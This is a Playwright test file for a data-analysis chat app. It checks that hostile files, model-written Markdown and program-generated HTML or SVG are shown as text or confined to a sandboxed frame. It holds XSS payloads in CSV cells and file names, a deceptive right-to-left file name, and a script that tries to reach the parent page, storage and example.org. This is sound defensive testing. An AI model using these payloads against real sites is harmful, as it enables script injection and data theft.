// What programs, files and models may try: nothing of it runs in the page's origin, and nothing asks anybody else.

import assert from "node:assert/strict";
import { after, before, test } from "node:test";

import { accessible, ask, BASE, browser, data, open as openIn, picker, runInstead, upload } from "./harness.mjs";

let chromium;
before(async () => (chromium = await browser()));
after(() => chromium?.close());
const open = (options) => openIn(chromium.context, options);

test("a hostile file is text and nothing else", async () => {
  const { page, verdict } = await open();
  await page.evaluate(() => (window.pwned = 0));
  const evil = '<img src=x onerror="window.pwned=1;alert(1)">';
  const cell = "<script>window.pwned=2</script>";
  const quote = (text) => `"${text.replaceAll('"', '""')}"`;
  const rows = [[evil, cell, "amount"], ["<svg onload=alert(2)>", evil, "1"], ["javascript:alert(3)", "[x](javascript:alert(4))", "2"], [evil, "<iframe src=javascript:alert(5)>", "3"]];
  const csv = rows.map((row) => row.map(quote).join(",")).join("\n");
  const name = "<img src=x onerror=alert(6)>.csv";
  await picker(page).setInputFiles([{ name, mimeType: "text/csv", buffer: Buffer.from(csv) }]);
  await page.locator(".chip:not(.uploading)").waitFor();
  await page.locator(".column").first().waitFor();
  await ask(page, "overview of the file");
  await page.locator(".chip").first().click();
  await page.locator(".side-sheet .column").first().waitFor();
  assert.equal(await page.evaluate(() => window.pwned), 0, "nothing ran");
  assert.equal(await page.locator('img[src="x"], img[onerror], iframe, svg[onload]').count(), 0, "no element came from the file");
  assert.ok(await page.evaluate(() => document.body.innerText.includes("<img src=x")), "it is shown as text");
  await verdict();
});

test("Markdown from a model makes no element but its own, in bounded time", async () => {
  const { page, verdict } = await open();
  const made = await page.evaluate(async (base) => {
    const { markdown } = await import(new URL("ui/markdown.js", base).href);
    const show = (text) => {
      const view = markdown(text);
      return { tags: [...view.querySelectorAll("*")].map((node) => node.tagName.toLowerCase()), text: view.textContent, links: [...view.querySelectorAll("a")].map((node) => `${node.href} ${node.rel}`) };
    };
    const started = performance.now();
    for (const piece of ["*a", "[", "`", "__x", "> ", "- ", "<b>", "| ", "https://", "# ", "\n1. "]) markdown(piece.repeat(60_000));
    return {
      raw: show("<script>alert(1)</script> ![x](https://example.org/x.png) <img src=x onerror=alert(1)>"),
      links: show("[a](javascript:alert(1)) [b](data:text/html,x) [c](https://example.org/c)"),
      rich: show("# Title\n\nSome **bold**, *thin*, `code` and body_mass_g.\n\n1. one\n   - inner\n2. two\n\n```python\nprint(1)\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |"),
      ms: performance.now() - started,
    };
  }, BASE);
  assert.deepEqual(made.raw.tags.filter((tag) => tag === "script" || tag === "img"), []);
  assert.ok(made.raw.text.includes("<script>alert(1)</script>"));
  assert.equal(made.links.links.length, 1);
  assert.match(made.links.links[0], /^https:\/\/example\.org\/c noopener/);
  for (const tag of ["h3", "strong", "em", "code", "ol", "ul", "li", "pre", "table", "td"]) assert.ok(made.rich.tags.includes(tag), tag);
  assert.ok(made.rich.text.includes("body_mass_g"));
  assert.ok(made.ms < 10_000, `took ${made.ms} ms`);
  await verdict();
});

/** A session whose first turn can be edited. */
async function begin(page) {
  await upload(page, data("penguins.csv"), "penguins.csv");
  return ask(page, "top 3 species by count");
}

test("a page that a program wrote runs in an origin of its own and reaches nothing", async () => {
  // The browser says in the console what the policy refused: that is what is tested here.
  const { page, verdict } = await open({ expected: (text) => /content security policy|blocked opening|sandboxed/i.test(text) });
  const first = await begin(page);
  await page.evaluate(() => (window.secret = "of the page"));
  const turn = await runInstead(page, first, `
open("evil.html", "w").write("""<h1 id="h">page</h1><img src="https://example.org/x.png"><link rel="stylesheet" href="https://example.org/x.css">
<script src="https://example.org/x.js"></script>
<script>
const seen = [];
const tell = () => { h.textContent = seen.join(" "); };
seen.push("ran");
try { seen.push("parent " + parent.secret); } catch (error) { seen.push("parent:" + error.name); }
try { seen.push("storage " + localStorage.length); } catch (error) { seen.push("storage:" + error.name); }
try { top.location = "https://example.org/top"; } catch (error) { seen.push("top:" + error.name); }
seen.push("rtc:" + typeof RTCPeerConnection);
fetch("https://example.org/out").then(() => seen.push("out"), (error) => seen.push("out:" + error.name)).then(tell);
fetch("/api/v1/sessions").then(() => seen.push("api"), (error) => seen.push("api:" + error.name)).then(tell);
navigator.sendBeacon?.("https://example.org/beacon");
open("https://example.org/popup");
parent.postMessage({ say: "height", height: 1e9 }, "*");
setTimeout(() => { location = "https://example.org/leak"; }, 1500);
tell();
</script><iframe src="https://example.org/frame"></iframe>""")
None
`);
  const frame = turn.locator(".framed-html iframe").first();
  await frame.waitFor();
  const heading = frame.contentFrame().locator("#h");
  await heading.filter({ hasText: "out:" }).filter({ hasText: "api:" }).waitFor();
  const words = await heading.innerText();
  assert.match(words, /ran parent:SecurityError storage:SecurityError/);
  assert.match(words, /rtc:undefined/);
  assert.match(words, /out:TypeError/);
  assert.match(words, /api:TypeError/);
  assert.ok((await frame.boundingBox()).height <= 1600, "it cannot make itself endless");
  // Until it tried to leave.
  await page.waitForTimeout(2000);
  assert.ok(page.url().startsWith(BASE), "the page stays where it is");
  assert.deepEqual(await page.evaluate(() => window.violations.filter((one) => !one.startsWith("frame-src https://example.org"))), [], "only leaving was refused by the page's own policy");
  await page.evaluate(() => (window.violations.length = 0));
  await verdict();
});

test("the frame has no origin even when it is opened by itself, and the page's own policy stays strict", async () => {
  const policy = (await fetch(new URL("/ui/frame.html", BASE))).headers.get("content-security-policy");
  assert.match(policy, /^sandbox allow-scripts;/);
  assert.doesNotMatch(policy, /allow-same-origin|https?:|\*/);
  const page = await chromium.context.newPage();
  await page.goto(new URL("/ui/frame.html", BASE).href);
  assert.equal(await page.evaluate(() => window.origin), "null");
  await page.close();
});

test("where only the page's own address can be reached, charts are drawn there", async () => {
  const unreachable = async (page) => page.route("**/~/**", (route) => route.abort("connectionrefused"));
  const { page, verdict } = await open({ prepare: unreachable, expected: (text) => /ERR_CONNECTION_REFUSED/.test(text) });
  const first = await begin(page);
  const turn = await runInstead(page, first, `
display({"application/vnd.vegalite.v5+json": {"data": {"values": [{"a": 1}, {"a": 3}]}, "mark": "bar", "encoding": {"x": {"field": "a", "type": "ordinal"}, "y": {"aggregate": "count"}}}}, raw=True)
`);
  const frame = turn.locator(".framed iframe");
  await frame.contentFrame().locator(".vega-embed svg .mark-rect path").first().waitFor();
  assert.equal(await frame.evaluate((node) => new URL(node.src).origin), new URL(BASE).origin);
  await verdict();
});

test("names of files that want to be something else are shown as what they are", async () => {
  const { page, verdict } = await open();
  const first = await begin(page);
  const turn = await runInstead(page, first, `
from pathlib import Path
Path("<img src=x onerror=alert(1)>.txt").write_text("x")
Path("invoice\u202egnp.exe").write_text("x")
Path("a" * 200 + ".csv").write_text("x")
deep = Path("/".join(["d" * 100] * 8)); deep.mkdir(parents=True); (deep / "deep.txt").write_text("x")
Path("picture.svg").write_text("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(2)</script><image href='https://example.org/i.png'/></svg>")
None
`);
  const tiles = turn.locator(".file-link");
  await tiles.first().waitFor();
  const names = await tiles.locator(".file-name").allInnerTexts();
  assert.ok(names.some((name) => name.includes("<img src=x")), `${names}`);
  assert.ok(names.some((name) => name.includes("\\u202e")), "a mark that turns text around is made visible");
  assert.ok(names.every((name) => name.length <= 120), "names are cut");
  assert.equal(await page.evaluate(() => document.documentElement.scrollWidth > innerWidth), false, "nothing sticks out");
  assert.equal(await page.locator('img[src="x"]').count(), 0);
  await accessible(page, "hostile names");
  await verdict();
});

test("drawings and markup that a program displays run nothing in the page", async () => {
  const { page, verdict } = await open({ expected: (text) => /content security policy|sandboxed|Blocked a frame with origin "null"/i.test(text) });
  await page.evaluate(() => (window.pwned = 0));
  const first = await begin(page);
  const turn = await runInstead(page, first, `
display({"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' width='90' height='40' onload='parent.pwned=1'><script>parent.pwned=2</script><image href='https://example.org/i.png'/><rect width='90' height='40'/></svg>"}, raw=True)
display({"text/html": "<div><img src='https://example.org/x.png' onerror='parent.pwned=3'><script>parent.pwned=4</script></div>"}, raw=True)
display({"text/markdown": "![x](https://example.org/m.png) <img src=x onerror=alert(1)> [a](javascript:alert(2))"}, raw=True)
display({"application/vnd.vegalite.v5+json": {"data": {"url": "https://example.org/data.csv"}, "mark": "point", "encoding": {"x": {"field": "a"}}}}, raw=True)
`);
  await turn.locator("img.chart").first().waitFor();
  await turn.locator(".framed").first().scrollIntoViewIfNeeded();
  await page.waitForTimeout(2500);
  assert.equal(await page.evaluate(() => window.pwned), 0);
  assert.equal(await page.locator('img[src^="https:"], img[src="x"], a[href^="javascript:"]').count(), 0);
  await verdict();
});

test("interactive charts are drawn from libraries that are here", async () => {
  const { page, verdict } = await open();
  const first = await begin(page);
  const turn = await runInstead(page, first, `
display({"application/vnd.plotly.v1+json": {"data": [{"type": "bar", "x": ["a", "b"], "y": [1, 2]}], "layout": {"title": {"text": "Two"}}}}, raw=True)
display({"application/vnd.vegalite.v5+json": {"data": {"values": [{"a": 1}, {"a": 3}]}, "mark": "bar", "encoding": {"x": {"field": "a", "type": "ordinal"}, "y": {"aggregate": "count"}}}}, raw=True)
page = lambda head, body: "<!doctype html><html><head>" + head + "</head><body>" + body + "</body></html>"
display({"text/html": page("<script src='https://cdn.jsdelivr.net/npm/chart.js' integrity='sha256-x' crossorigin='anonymous'></script>", "<canvas id='c' width='300' height='150'></canvas><script>new Chart(c, {type: 'bar', data: {labels: ['a'], datasets: [{data: [1]}]}, options: {animation: false}}); document.title = 'drawn'; document.body.append('chart ' + Chart.version)</script>")}, raw=True)
display({"text/html": page("<script src='https://d3js.org/d3.v7.min.js'></script>", "<svg></svg><script>d3.select('svg').append('text').attr('y', 20).text('d3 ' + d3.version)</script>")}, raw=True)
`);
  const frames = turn.locator(".framed iframe");
  assert.equal(await frames.count(), 4);
  const inside = async (n, selector) => {
    await turn.locator(".framed").nth(n).scrollIntoViewIfNeeded();
    await frames.nth(n).contentFrame().locator(selector).first().waitFor();
  };
  await inside(0, ".plotly .bars path");
  await inside(1, ".vega-embed svg .mark-rect path");
  await inside(2, "text=/chart \\d/");
  await inside(3, "text=/d3 7/");
  const shown = await page.locator('meta[name="artifacts"]').getAttribute("content");
  const origins = await frames.evaluateAll((all) => all.map((frame) => new URL(frame.src).origin));
  assert.ok(shown && shown !== new URL(BASE).origin, `artifacts have an origin of their own: ${shown}`);
  assert.deepEqual(origins, [shown, shown, shown, shown]);
  assert.equal(await turn.locator(".frame-status").count(), 0, "nobody waits any more");
  await accessible(page, "interactive charts");
  await verdict();
});

test("the picture of a chart is drawn again from its data", async () => {
  const { page, verdict } = await open();
  await upload(page, data("penguins.csv"), "penguins.csv");
  for (const [question, mark] of [["average body_mass_g by species and sex as a bar chart", ".mark-rect path"], ["scatter plot of bill_length_mm and bill_depth_mm by species", ".mark-symbol path"]]) {
    const turn = await ask(page, question);
    const card = turn.locator(".picture").first();
    await card.hover();
    await card.locator(".explore").click();
    const frame = card.locator("iframe").contentFrame();
    await frame.locator(mark).first().waitFor();
    assert.ok((await frame.locator(mark).count()) >= 6, question);
    assert.equal(await card.locator(".picture-button").isVisible(), false);
    await card.locator(".explore").click();
    assert.equal(await card.locator(".picture-button").isVisible(), true, "and back");
  }
  await verdict();
});
